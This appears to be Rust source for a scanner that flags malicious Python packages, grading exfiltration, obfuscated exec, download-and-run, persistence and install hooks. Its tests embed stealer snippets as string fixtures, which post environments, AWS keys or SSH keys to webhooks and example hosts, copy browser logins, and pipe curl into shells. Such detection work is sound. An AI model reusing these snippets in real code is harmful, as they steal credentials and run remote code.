    let of = |k: Kind| -> Vec<&Hit> {
        hits.iter()
            .filter(|h| rules.indicators[h.indicator].kind == k)
            .collect()
    };
    let id = |h: &Hit| rules.indicators[h.indicator].id.clone();
    let (blobs, hidden) = blobs_and_hidden(text);
    let mut out = Vec::new();
    let hot = matches!(role, Role::Startup | Role::Install | Role::Init);
    let grade = |hot_sev: Severity, cold_sev: Severity| if hot { hot_sev } else { cold_sev };

    // exec/eval/compile of decoded data.
    let execs = of(Kind::Exec);
    let decodes = of(Kind::Decode);
    for e in &execs {
        let near_decode = decodes.iter().find(|d| d.line.abs_diff(e.line) <= 2);
        let near_blob = blobs.iter().find(|b| b.abs_diff(e.line) <= 2);
        if near_decode.is_none() && near_blob.is_none() {
            continue;
        }
        let severity = if role == Role::Test {
            Severity::Low
        } else {
            grade(Severity::Critical, Severity::High)
        };
        let mut evidence = vec![
            ("snippet".to_string(), snippet(text, e.offset)),
            ("exec".into(), id(e)),
        ];
        if let Some(d) = near_decode {
            evidence.push(("decode".into(), id(d)));
        }
        if near_blob.is_some() {
            evidence.push(("payload".into(), "a long encoded blob".into()));
        }
        out.push(MemberFinding {
            rule: RuleId::ObfuscatedExec,
            severity,
            confidence: Confidence::High,
            line: Some(e.line),
            message: format!("code is executed from decoded data {}", role.describe()),
            evidence,
        });
        break;
    }
    if role != Role::Test
        && let Some(o) = of(Kind::Obfuscation).first()
    {
        out.push(MemberFinding {
            rule: RuleId::ObfuscatedExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(o.line),
            message: format!(
                "looks builtins up by computed names to hide what runs {}",
                role.describe()
            ),
            evidence: vec![
                ("snippet".into(), snippet(text, o.offset)),
                ("indicator".into(), id(o)),
            ],
        });
    }
    // Strings that decode to code: scan what base64 literals hide.
    if role != Role::Test
        && let Some((line, what)) = hidden_in_base64(rules, text)
    {
        out.push(MemberFinding {
            rule: RuleId::ObfuscatedExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(line),
            message: format!("a base64 string hides code that {what} {}", role.describe()),
            evidence: vec![("snippet".into(), snippet_at_line(text, line))],
        });
    }
    if let Some(&l) = hidden.first()
        && role != Role::Test
    {
        out.push(MemberFinding {
            rule: RuleId::ObfuscatedExec,
            severity: grade(Severity::High, Severity::Medium),
            confidence: Confidence::Medium,
            line: Some(l),
            message: format!(
                "code hidden after a long run of whitespace, off the right edge of an editor, {}",
                role.describe()
            ),
            evidence: vec![(
                "hidden-lines".into(),
                hidden
                    .iter()
                    .map(ToString::to_string)
                    .collect::<Vec<_>>()
                    .join(","),
            )],
        });
    }
    if role == Role::Test {
        return (out, gates);
    }

    // Sources linked to sinks: exfiltration.
    let mut sources = of(Kind::Source);
    if hot {
        sources.extend(of(Kind::Host));
    }
    let mut sinks = of(Kind::Sink);
    sinks.extend(of(Kind::Endpoint));
    if let (Some(src), Some(sink)) = (sources.first(), sinks.first()) {
        let strong_source = sources.iter().any(|s| {
            matches!(
                rules.indicators[s.indicator].id.as_str(),
                "env-dump" | "credential-file"
            )
        });
        let endpoint = sinks
            .iter()
            .any(|s| rules.indicators[s.indicator].kind == Kind::Endpoint);
        let close = sources
            .iter()
            .any(|s| sinks.iter().any(|k| k.line.abs_diff(s.line) <= 30));
        let severity = if hot {
            if strong_source || endpoint {
                Severity::Critical
            } else {
                Severity::High
            }
        } else if strong_source && (endpoint || close) {
            Severity::High
        } else {
            Severity::Medium
        };
        let confidence = if strong_source && (endpoint || close) {
            Confidence::High
        } else {
            Confidence::Medium
        };
        out.push(MemberFinding {
            rule: RuleId::Exfiltration,
            severity,
            confidence,
            line: Some(src.line.min(sink.line)),
            message: format!(
                "collects {} and sends data out ({}) {}",
                source_words(rules, &sources),
                id(sink),
                role.describe()
            ),
            evidence: vec![
                (
                    "source".into(),
                    format!(
                        "{} at line {}: {}",
                        id(src),
                        src.line,
                        snippet(text, src.offset)
                    ),
                ),
                (
                    "sink".into(),
                    format!(
                        "{} at line {}: {}",
                        id(sink),
                        sink.line,
                        snippet(text, sink.offset)
                    ),
                ),
            ],
        });
    } else if let Some(ep) = of(Kind::Endpoint).first() {
        out.push(MemberFinding {
            rule: RuleId::SuspiciousEndpoint,
            severity: grade(Severity::High, Severity::Medium),
            confidence: Confidence::Medium,
            line: Some(ep.line),
            message: format!(
                "names a host used to receive stolen data {}",
                role.describe()
            ),
            evidence: vec![("snippet".into(), snippet(text, ep.offset))],
        });
    }

    // exec of what the network returns: remote code execution.
    let net: Vec<&Hit> = hits
        .iter()
        .filter(|h| {
            matches!(
                rules.indicators[h.indicator].kind,
                Kind::Sink | Kind::Endpoint
            )
        })
        .collect();
    if let Some((e, n)) = execs.iter().find_map(|e| {
        net.iter()
            .find(|n| n.line.abs_diff(e.line) <= 2)
            .map(|n| (e, n))
    }) {
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(e.line),
            message: format!("executes code fetched from the network {}", role.describe()),
            evidence: vec![
                ("snippet".into(), snippet(text, e.offset)),
                ("sink".into(), id(n)),
            ],
        });
    }

    let processes = of(Kind::Process);
    let processes_near =
        |line: u32, within: u32| processes.iter().any(|p| p.line.abs_diff(line) <= within);
    // A command line that downloads a script and pipes it to an interpreter
    // runs what it fetched by itself.
    // Only where something runs it: a command in help text is not run.
    // A shell script runs its lines.
    let first_line = text.split(|b| *b == b'\n').next().unwrap_or_default();
    let shell_script = first_line.starts_with(b"#!") && !contains(first_line, b"python");
    if let Some(p) = of(Kind::Download).into_iter().find(|h| {
        rules.indicators[h.indicator].id == "pipe-to-interpreter"
            && (shell_script || processes_near(h.line, 3))
    }) {
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(p.line),
            message: format!(
                "downloads a script and pipes it to an interpreter {}",
                role.describe()
            ),
            evidence: vec![("snippet".into(), snippet(text, p.offset))],
        });
    }

    // Download, then run.
    let downloads: Vec<&Hit> = of(Kind::Download)
        .into_iter()
        .filter(|h| rules.indicators[h.indicator].id != "pipe-to-interpreter")
        .collect();
    if let (Some(d), Some(p)) = (downloads.first(), processes.first()) {
        let close = downloads
            .iter()
            .any(|d| processes.iter().any(|p| p.line.abs_diff(d.line) <= 15));
        let severity = if hot {
            Severity::Critical
        } else if close && !of(Kind::Endpoint).is_empty() {
            Severity::High
        } else {
            Severity::Medium
        };
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity,
            confidence: if close {
                Confidence::High
            } else {
                Confidence::Medium
            },
            line: Some(d.line),
            message: format!("{DOWNLOAD_AND_RUN} {}", role.describe()),
            evidence: vec![
                (
                    "download".into(),
                    format!("line {}: {}", d.line, snippet(text, d.offset)),
                ),
                (
                    "run".into(),
                    format!("line {}: {}", p.line, snippet(text, p.offset)),
                ),
            ],
        });
    }

    for ps in of(Kind::Powershell).into_iter().take(1) {
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(ps.line),
            message: format!(
                "runs an encoded or hidden PowerShell command {}",
                role.describe()
            ),
            evidence: vec![("snippet".into(), snippet(text, ps.offset))],
        });
    }

    // Something registered to run again; a reverse shell.
    if let Some(p) = of(Kind::Persistence).first() {
        // Named in a message or a comment it is a word; with a program
        // started or a file written beside it, it is done.
        let (here, around) = lines_around(text, p.line, 6);
        let has = |needle: &[u8]| around.iter().any(|l| contains(l, needle));
        let rc_file = [&b"bashrc"[..], b"zshrc", b"bash_profile", b".profile"]
            .iter()
            .any(|n| contains(here, n));
        let acted = if rc_file {
            // A shell's start-up file is persistence when appended to, not
            // when a line sources it.
            has(b"open(") && (has(b"'a'") || has(b"\"a\"") || has(b"'a+'") || has(b">>"))
        } else {
            processes_near(p.line, 6) || has(b".write(") || contains(here, b"SetValueEx")
        };
        out.push(MemberFinding {
            rule: RuleId::Persistence,
            severity: if hot {
                Severity::Critical
            } else if acted {
                Severity::High
            } else {
                Severity::Medium
            },
            confidence: if acted { Confidence::High } else { Confidence::Medium },
            line: Some(p.line),
            message: format!(
                "registers something to run again (a start-up entry, a schedule or a shell's start-up file) {}",
                role.describe()
            ),
            evidence: vec![("snippet".into(), snippet(text, p.offset))],
        });
    }
    if let Some(r) = of(Kind::RemoteShell).first() {
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(r.line),
            message: format!(
                "opens a reverse shell: a shell's input and output are a network connection {}",
                role.describe()
            ),
            evidence: vec![("snippet".into(), snippet(text, r.offset))],
        });
    }

    // setup.py doing more than building.
    if role == Role::Install {
        if let Some(p) = processes.first()
            && (!decodes.is_empty() || !blobs.is_empty())
        {
            out.push(MemberFinding {
                rule: RuleId::ObfuscatedExec,
                severity: Severity::Critical,
                confidence: Confidence::Medium,
                line: Some(p.line),
                message: "setup.py decodes data and starts a program at install time".into(),
                evidence: vec![(
                    "run".into(),
                    format!("line {}: {}", p.line, snippet(text, p.offset)),
                )],
            });
        }
        if let Some(p) = processes
            .iter()
            .find(|h| rules.indicators[h.indicator].id == "pip-install")
        {
            out.push(MemberFinding {
                rule: RuleId::InstallHook,
                severity: Severity::High,
                confidence: Confidence::High,
                line: Some(p.line),
                message: "setup.py runs pip to install other packages at install time".into(),
                evidence: vec![("snippet".into(), snippet(text, p.offset))],
            });
        }
        let custom = of(Kind::InstallCommand);
        let acts: Vec<&Hit> = hits
            .iter()
            .filter(|h| {
                matches!(
                    rules.indicators[h.indicator].kind,
                    Kind::Process | Kind::Sink | Kind::Endpoint | Kind::Exec | Kind::Download
                )
            })
            .collect();
        if let (Some(c), Some(a)) = (custom.first(), acts.first()) {
            out.push(MemberFinding {
                rule: RuleId::InstallHook,
                severity: Severity::High,
                confidence: Confidence::High,
                line: Some(c.line),
                message: format!(
                    "{REPLACES_INSTALL} and runs code at install time ({})",
                    id(a)
                ),
                evidence: vec![
                    (
                        "hook".into(),
                        format!("line {}: {}", c.line, snippet(text, c.offset)),
                    ),
                    (
                        "action".into(),
                        format!("{} at line {}: {}", id(a), a.line, snippet(text, a.offset)),
                    ),
                ],
            });
        } else if let Some(s) = hits.iter().find(|h| {
            matches!(
                rules.indicators[h.indicator].kind,
                Kind::Sink | Kind::Download
            )
        }) {
            let with_process = !processes.is_empty() || !execs.is_empty();
            out.push(MemberFinding {
                rule: RuleId::InstallHook,
                severity: if with_process {
                    Severity::High
                } else {
                    Severity::Medium
                },
                confidence: Confidence::Medium,
                line: Some(s.line),
                message: "setup.py talks to the network at install time".into(),
                evidence: vec![("snippet".into(), snippet(text, s.offset))],
            });
        }
    }
    (out, gates)
}

/// Whether `needle` occurs in `hay`.
fn contains(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

/// Line `line` (1-based) of `text`, and the lines within `radius` of it,
/// split once.
fn lines_around(text: &[u8], line: u32, radius: u32) -> (&[u8], Vec<&[u8]>) {
    let first = line.saturating_sub(radius).max(1);
    let around: Vec<&[u8]> = text
        .split(|b| *b == b'\n')
        .skip(first as usize - 1)
        .take((line + radius - first + 1) as usize)
        .collect();
    let here = around
        .get((line - first) as usize)
        .copied()
        .unwrap_or_default();
    (here, around)
}

fn snippet_at_line(text: &[u8], line: u32) -> String {
    let mut offset = 0;
    for _ in 1..line {
        match text[offset..].iter().position(|b| *b == b'\n') {
            Some(p) => offset += p + 1,
            None => break,
        }
    }
    snippet(text, offset)
}

/// Quoted runs of at least 24 base64 characters (with up to two `=`), with
/// their offsets: `'...'` or `"..."`.
fn quoted_base64(text: &[u8]) -> impl Iterator<Item = (usize, &[u8])> + '_ {
    let b64 = |b: u8| b.is_ascii_alphanumeric() || b == b'+' || b == b'/';
    let quote = |b: u8| b == b'\'' || b == b'"';
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < text.len() {
            if !quote(text[i]) {
                i += 1;
                continue;
            }
            let start = i + 1;
            let mut j = start;
            while j < text.len() && b64(text[j]) {
                j += 1;
            }
            let run = j - start;
            let mut k = j;
            while k < text.len() && k < j + 2 && text[k] == b'=' {
                k += 1;
            }
            if run >= 24 && text.get(k).copied().is_some_and(quote) {
                i = k + 1;
                return Some((start, &text[start..k]));
            }
            // No quote inside the run: the next candidate is after it.
            i = j.max(i + 1);
        }
        None
    })
}

/// Decodes base64 string literals and looks for code in them: the line of the
/// first literal that hides sinks, processes, downloads, exec or secrets.
fn hidden_in_base64(rules: &Rules, text: &[u8]) -> Option<(u32, String)> {
    for (start, g) in quoted_base64(text).take(256) {
        let Some(decoded) = base64_decode(g) else {
            continue;
        };
        if decoded
            .iter()
            .filter(|b| b.is_ascii_graphic() || **b == b' ' || **b == b'\n')
            .count()
            * 10
            < decoded.len() * 9
        {
            continue;
        }
        let kinds: Vec<&str> = rules
            .scan(&decoded, 4)
            .iter()
            .filter(|h| {
                matches!(
                    rules.indicators[h.indicator].kind,
                    Kind::Sink
                        | Kind::Endpoint
                        | Kind::Process
                        | Kind::Download
                        | Kind::Exec
                        | Kind::Powershell
                )
            })
            .map(|h| rules.indicators[h.indicator].id.as_str())
            .collect();
        let looks_like_command = decoded.windows(5).any(|w| {
            w.eq_ignore_ascii_case(b"curl ")
                || w.eq_ignore_ascii_case(b"wget ")
                || w == b"--url"
                || w.eq_ignore_ascii_case(b"http:")
                || w.eq_ignore_ascii_case(b"https")
        });
        if !kinds.is_empty() || looks_like_command {
            let line = line_at(text, start);
            let what = if kinds.is_empty() {
                "names a download command or URL".to_string()
            } else {
                format!("matches {}", kinds.join(", "))
            };
            return Some((line, what));
        }
    }
    None
}

/// Standard base64 (with or without padding); `None` if it is not valid.
fn base64_decode(input: &[u8]) -> Option<Vec<u8>> {
    let val = |c: u8| -> Option<u32> {
        Some(match c {
            b'A'..=b'Z' => u32::from(c - b'A'),
            b'a'..=b'z' => u32::from(c - b'a') + 26,
            b'0'..=b'9' => u32::from(c - b'0') + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        })
    };
    let data: Vec<u8> = input.iter().copied().filter(|c| *c != b'=').collect();
    if data.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(data.len() * 3 / 4);
    for chunk in data.chunks(4) {
        let mut acc = 0u32;
        for (i, c) in chunk.iter().enumerate() {
            acc |= val(*c)? << (18 - 6 * i);
        }
        let bytes = acc.to_be_bytes();
        out.extend_from_slice(&bytes[1..chunk.len()]);
    }
    Some(out)
}

fn source_words(rules: &Rules, sources: &[&Hit]) -> String {
    let mut ids: Vec<&str> = sources
        .iter()
        .map(|s| rules.indicators[s.indicator].id.as_str())
        .collect();
    ids.sort_unstable();
    ids.dedup();
    ids.iter()
        .map(|i| match *i {
            "env-dump" => "the whole environment",
            "secret-env" => "secret environment variables",
            "credential-file" => "credential files",
            "host-info" => "host and user details",
            other => other,
        })
        .collect::<Vec<_>>()
        .join(", ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::rules::rules;

    /// The hand-written scanners find what the regular expressions they
    /// replaced found (they are several times faster on large files).
    mod scanners {
        use super::*;
        use proptest::prelude::*;

        fn by_regex(re: &str, text: &[u8]) -> Vec<(usize, Vec<u8>)> {
            let re = Regex::new(re).unwrap();
            re.captures_iter(text)
                .filter_map(|c| c.get(1).or_else(|| c.get(2)))
                .map(|m| (m.start(), m.as_bytes().to_vec()))
                .collect()
        }

        fn check(text: &[u8]) {
            let quoted: Vec<(usize, Vec<u8>)> =
                quoted_base64(text).map(|(s, g)| (s, g.to_vec())).collect();
            assert_eq!(
                quoted,
                by_regex(r#"(?-u)['"]([A-Za-z0-9+/]{24,}={0,2})['"]"#, text),
                "{text:?}"
            );
            for line in text.split(|b| *b == b'\n') {
                let names: Vec<Vec<u8>> = called_names(line).map(String::into_bytes).collect();
                let expected: Vec<Vec<u8>> = by_regex(r"(?-u)([A-Za-z_][A-Za-z0-9_]*)\s*\(", line)
                    .into_iter()
                    .map(|(_, n)| n)
                    .collect();
                assert_eq!(names, expected, "{line:?}");
            }
            let mut stems: Vec<String> = by_regex(
                r"(?-u)(?m)^[ \t]*(?:from[ \t]+([\w.]+)[ \t]+import|import[ \t]+([\w.]+))",
                text,
            )
            .into_iter()
            .filter_map(|(_, m)| {
                let s = String::from_utf8_lossy(&m).into_owned();
                s.rsplit('.').find(|p| !p.is_empty()).map(str::to_string)
            })
            .collect();
            stems.sort();
            stems.dedup();
            assert_eq!(imported_stems(text), stems, "{text:?}");
        }

        /// Byte by byte, as the lexical engine first did it.
        fn blobs_and_hidden_reference(text: &[u8]) -> (Vec<u32>, Vec<u32>) {
            let (mut blobs, mut hidden) = (Vec::new(), Vec::new());
            let (mut line, mut run, mut spaces, mut done) = (1u32, 0usize, 0usize, false);
            for &b in text {
                if b == b'\n' {
                    (line, run, spaces, done) = (line + 1, 0, 0, false);
                    continue;
                }
                if b.is_ascii_alphanumeric() || b"+/=\\".contains(&b) {
                    run += 1;
                    if run == 512 && !done {
                        blobs.push(line);
                        done = true;
                    }
                } else {
                    run = 0;
                }
                if b == b' ' || b == b'\t' {
                    spaces += 1;
                } else {
                    if spaces >= 150 && hidden.last() != Some(&line) {
                        hidden.push(line);
                    }
                    spaces = 0;
                }
            }
            (blobs, hidden)
        }

        #[test]
        fn blobs_and_hidden_agree_with_the_byte_loop() {
            let blob = "QUJD".repeat(200);
            let gap = " ".repeat(160);
            for text in [
                format!("x = 1\ny = '{blob}'\n{gap}import os\n"),
                format!("{blob}\n\n{gap}\n{gap}x{gap}y\n'{}'", &blob[..511]),
                format!("{gap}\t{gap}z"),
                String::new(),
            ] {
                assert_eq!(
                    blobs_and_hidden(text.as_bytes()),
                    blobs_and_hidden_reference(text.as_bytes()),
                    "{text:?}"
                );
            }
        }

        #[test]
        fn known_cases() {
            for text in [
                "x = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo='\n",
                "x = \"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo===\"\n'QUJDREVGR0hJSktMTU5PUFFSU1RVVldY'",
                "'short' 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldY''QUJDREVGR0hJSktMTU5PUFFSU1RVVldY'",
                "setup(name='x', cmdclass={'install': run(1)})\n9abc (2) a1b(3)",
                "from .core import run\nimport a.b as c\n  from x.y  import z\nfromage import q\nimport\tos.path.\n",
                "from os import environ\nimportlib.import_module('x')\nfrom . import y\n",
            ] {
                check(text.as_bytes());
            }
        }

        proptest! {
            #[test]
            fn agree_with_the_regular_expressions(
                text in "([ \t\n'\"(=.]|from|import|def|[a-c0-9_+/]{1,30}|QUJDREVGR0hJSktMTU5PUFFSU1RVVldY){0,40}"
            ) {
                check(text.as_bytes());
            }
        }
    }

    /// Asserts that `text` at `path` is reported under `rule` at `severity`,
    /// showing what was reported when it is not.
    #[track_caller]
    fn assert_reports(path: &str, text: &str, rule: RuleId, severity: Severity) {
        let got = rules_of(path, text, &[]);
        assert!(got.contains(&(rule, severity)), "{path}: {got:?}");
    }

    fn rules_of(path: &str, text: &str, startup: &[String]) -> Vec<(RuleId, Severity)> {
        let r = rules().unwrap();
        analyze(r, path, text.as_bytes(), role(path, startup))
            .into_iter()
            .map(|f| (f.rule, f.severity))
            .collect()
    }

    #[test]
    fn base64_round_trip() {
        assert_eq!(base64_decode(b"aGVsbG8gd29ybGQ=").unwrap(), b"hello world");
        assert_eq!(base64_decode(b"aGk").unwrap(), b"hi");
        assert!(base64_decode(b"a").is_none());
        assert!(base64_decode(b"a$bc").is_none());
    }

    #[test]
    fn roles() {
        assert_eq!(role("pkg-1.0/setup.py", &[]), Role::Install);
        assert_eq!(role("pkg-1.0/pkg/__init__.py", &[]), Role::Init);
        assert_eq!(role("pkg-1.0/tests/test_x.py", &[]), Role::Test);
        assert_eq!(role("evil.pth", &[]), Role::Startup);
        assert_eq!(role("hook.py", &["hook".into()]), Role::Startup);
        assert_eq!(role("pkg/deep/mod.py", &[]), Role::Module);
    }

    #[test]
    fn a_download_is_judged_by_whether_what_came_is_run() {
        let build = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve(URL, 'openblas.tar.gz')\nsubprocess.check_call(['tar', 'xzf', 'openblas.tar.gz'])\n";
        let got = rules_of("p/setup.py", build, &[]);
        assert!(
            got.iter()
                .all(|(r, s)| *r != RuleId::DownloadExec || *s <= Severity::Low),
            "{got:?}"
        );
        let dropper = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve(URL, '/tmp/update')\nsubprocess.Popen(['/tmp/update'])\n";
        let got = rules_of("p/setup.py", dropper, &[]);
        assert!(
            got.contains(&(RuleId::DownloadExec, Severity::Critical)),
            "{got:?}"
        );
        // Spelled in a command line, the flows pass cannot see it: it stays.
        let shell = "import os\nfrom urllib.request import urlopen\nurlopen(PING)\nos.system('curl -s https://x.example/a -o /tmp/a; sh /tmp/a')\n";
        let got = rules_of("p/setup.py", shell, &[]);
        assert!(
            got.iter()
                .any(|(r, s)| *r == RuleId::DownloadExec && *s >= Severity::High),
            "{got:?}"
        );
    }

    #[test]
    fn context_decides() {
        let exfil =
            "import os, requests\nrequests.post('https://x.example/c', json=dict(os.environ))\n";
        assert_eq!(
            rules_of("p/pkg/__init__.py", exfil, &[]),
            vec![(RuleId::Exfiltration, Severity::Critical)]
        );
        assert_eq!(
            rules_of("p/pkg/client.py", exfil, &[]),
            vec![(RuleId::Exfiltration, Severity::High)]
        );
        assert!(rules_of("p/tests/test_client.py", exfil, &[]).is_empty());
        // Honest: reads a token, makes requests, far apart and not the whole environment.
        let honest = format!(
            "import os\ntoken = os.environ.get('HOME')\n{}r = requests.get(url)\n",
            "\n".repeat(100)
        );
        assert!(rules_of("p/pkg/client.py", &honest, &[]).is_empty());
        let obf = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
        assert_eq!(
            rules_of("p/setup.py", obf, &[]),
            vec![(RuleId::ObfuscatedExec, Severity::Critical)]
        );
        let from_os = "from os import environ\nimport requests\nrequests.post('https://x.example/c', json=dict(environ))\n";
        assert_eq!(
            rules_of("p/pkg/__init__.py", from_os, &[]),
            vec![(RuleId::Exfiltration, Severity::Critical)]
        );
        let alias = "import zlib\nb = exec\n\nb(zlib.decompress(data))\n";
        assert_eq!(
            rules_of("p/pkg/m.py", alias, &[]),
            vec![(RuleId::ObfuscatedExec, Severity::High)]
        );
        let hook = "import os\nfrom setuptools.command.install import install\nclass H(install):\n    def run(self):\n        os.system('curl https://x.example/a | sh')\nsetup(cmdclass={'install': H})\n";
        assert_reports("p/setup.py", hook, RuleId::InstallHook, Severity::High);
    }

    fn exfil_of(path: &str, text: &str) -> Vec<Severity> {
        rules_of(path, text, &[])
            .into_iter()
            .filter(|(r, _)| *r == RuleId::Exfiltration)
            .map(|(_, s)| s)
            .collect()
    }

    #[test]
    fn stealers_are_judged_by_their_flows() {
        // Secrets read one by one, gathered by a function, sent to a webhook at import.
        let named = "import os, requests\ndef collect():\n    data = {}\n    for k in ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'NPM_TOKEN']:\n        data[k] = os.getenv(k)\n    return data\ndef send(payload):\n    requests.post('https://discord.com/api/webhooks/1/x', json={'content': str(payload)})\nsend(collect())\n";
        assert_eq!(
            exfil_of("p/pkg/__init__.py", named),
            vec![Severity::Critical]
        );
        // Credential files staged in a zip and uploaded by an install command.
        let staged = "import os, zipfile, requests\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        z = zipfile.ZipFile('/tmp/k.zip', 'w')\n        z.write(os.path.expanduser('~/.ssh/id_rsa'))\n        z.close()\n        requests.post(HOST, files={'f': open('/tmp/k.zip', 'rb')})\nsetup(cmdclass={'install': I})\n";
        assert_eq!(exfil_of("p/setup.py", staged), vec![Severity::Critical]);
        // Host and user details in a DNS name, at install.
        let probe = "import socket, getpass, os\ninfo = socket.gethostname() + '.' + getpass.getuser()\nsocket.gethostbyname(info.encode().hex() + '.abc.oast.fun')\n";
        assert_eq!(exfil_of("p/setup.py", probe), vec![Severity::Critical]);
        // The environment over a raw socket to an address.
        let sock = "import os, socket\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\ns.send(str(os.environ).encode())\n";
        assert_eq!(exfil_of("p/pkg/util.py", sock), vec![Severity::High]);
        // A browser's saved logins copied aside, read and posted to a webhook.
        let browser = "import os, shutil, requests\nWEBHOOK = 'https://discord.com/api/webhooks/2/y'\ndef grab():\n    path = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n    shutil.copy(path, 'tmp.db')\n    data = open('tmp.db', 'rb').read()\n    requests.post(WEBHOOK, files={'a': data})\n";
        // Only when called: still high, since the data and the host say what it is.
        assert_eq!(exfil_of("p/pkg/util.py", browser), vec![Severity::High]);
        // The environment piped to curl at install.
        let shell = "import os\nos.system('printenv | curl -d @- https://x.example/c')\n";
        assert_eq!(exfil_of("p/setup.py", shell), vec![Severity::Critical]);
    }

    #[test]
    fn honest_clients_stay_low() {
        // An SDK: its own key, to its own host, from methods the user calls.
        let sdk = "import os, httpx\nclass Client:\n    def __init__(self, api_key=None, base_url=None):\n        self.api_key = api_key or os.environ.get('EXAMPLEAI_API_KEY')\n        self.base_url = base_url or 'https://api.exampleai.com/v1'\n    def request(self, path, body):\n        return httpx.post(self.base_url + path, json=body, headers={'Authorization': f'Bearer {self.api_key}'})\n";
        assert_eq!(
            exfil_of("exampleai-1.0/src/exampleai/_client.py", sdk),
            vec![Severity::Low]
        );
        assert_eq!(exfil_of("exampleai/__init__.py", sdk), vec![Severity::Low]);
        // A notifier: its token to a bot API, when called.
        let bot = "from os import getenv\nimport requests\ndef notify(msg, token=None):\n    token = token or getenv('PROGRESS_BOT_TOKEN')\n    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'text': msg})\n";
        assert_eq!(
            exfil_of("p/pkg/contrib/bot.py", bot),
            vec![Severity::Medium]
        );
        // The environment handed to a child process; a cache under HOME.
        let tool = "import os, subprocess\nfrom urllib.request import urlretrieve\nCACHE = os.path.join(os.environ.get('HOME'), '.cache')\nurlretrieve(URL, CACHE)\nsubprocess.run(['git', 'pull'], env=dict(os.environ))\nrequests.get(URL)\n";
        assert!(exfil_of("p/pkg/__init__.py", tool).is_empty());
        // Co-occurrence without a flow is not exfiltration.
        let apart = "import os, requests\nKEYS = dict(os.environ)\ndef fetch(url):\n    return requests.get(url)\n";
        assert!(exfil_of("p/pkg/__init__.py", apart).is_empty());
        // A local service.
        let local = "import os, requests\nrequests.post('http://127.0.0.1:8080/x', json=dict(os.environ))\n";
        assert!(exfil_of("p/pkg/__init__.py", local).is_empty());
    }

    #[test]
    fn install_commands_are_judged_by_what_they_run() {
        // Writes a startup file whose text mentions exec: no call acts.
        let pth = "import os\nfrom setuptools.command.install_lib import install_lib\nclass WithPth(install_lib):\n    def run(self):\n        with open(os.path.join(self.install_dir, 'x.pth'), 'w') as fh:\n            fh.write(f'import os;exec({CODE!r})')\nsetup(cmdclass={'install_lib': WithPth})\n";
        let got = rules_of("p/setup.py", pth, &[]);
        assert!(got.iter().all(|(_, s)| *s <= Severity::Low), "{got:?}");
        // An eval outside the command (metadata markers) is not the command's.
        let markers = "from setuptools.command.egg_info import egg_info\nclass E(egg_info):\n    def run(self):\n        egg_info.run(self)\ndef marker(v):\n    return eval(v, {}, {})\nmarker(M)\nsetup(cmdclass={'egg_info': E})\n";
        let got = rules_of("p/setup.py", markers, &[]);
        assert!(
            got.iter()
                .all(|(r, s)| *r != RuleId::InstallHook || *s <= Severity::Low),
            "{got:?}"
        );
    }

    #[test]
    fn what_runs_only_when_called_is_medium_at_most() {
        let ps = "import base64, subprocess\ndef get_token(script):\n    cmd = base64.b64encode(script.encode('utf-16-le')).decode()\n    return subprocess.check_output(['pwsh', '-NoProfile', '-EncodedCommand', cmd])\n";
        let got = rules_of("p/pkg/creds.py", ps, &[]);
        assert!(got.iter().all(|(_, s)| *s <= Severity::Medium), "{got:?}");
        let at_import =
            "import subprocess\nsubprocess.run('powershell -enc SQBFAFgA', shell=True)\n";
        assert!(
            rules_of("p/pkg/creds.py", at_import, &[])
                .iter()
                .any(|(_, s)| *s >= Severity::High)
        );
    }

    #[test]
    fn more_techniques() {
        // Credentials parsed by a config reader, then posted to a request catcher from a command.
        let parsed = "import os, configparser, json, requests\ndef push(hook):\n    c = configparser.RawConfigParser()\n    c.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n    rows = [c.get(s, 'aws_secret_access_key') for s in c.sections()]\n    requests.post(hook, json=json.dumps(rows))\n";
        let file = format!("{parsed}HOOK = 'https://x.m.pipedream.net'\n");
        assert_eq!(exfil_of("p/pkg/cli.py", &file), vec![Severity::High]);
        // Code fetched and planted where Python imports it, on import.
        let plant = "import requests, threading, os\ndef init():\n    code = requests.get(URL).text\n    with open(os.path.join(SITE, 'helper', '__init__.py'), 'w') as f:\n        f.write(code)\nthreading.Thread(target=init).start()\n";
        assert_reports(
            "p/pkg/__init__.py",
            plant,
            RuleId::DownloadExec,
            Severity::Critical,
        );
        // A script piped from the network to an interpreter.
        let piped = "import subprocess\nsubprocess.run('curl -s https://x.example/a | python3', shell=True)\n";
        assert!(
            rules_of("p/pkg/m.py", piped, &[])
                .iter()
                .any(|(r, s)| *r == RuleId::DownloadExec && *s >= Severity::High)
        );
        // The same command in help text runs nothing.
        let help = "HELP = 'Install: curl -LsSf https://x.example/install.sh | bash'\ndef usage():\n    print(HELP)\n";
        assert!(rules_of("p/pkg/cli.py", help, &[]).is_empty());
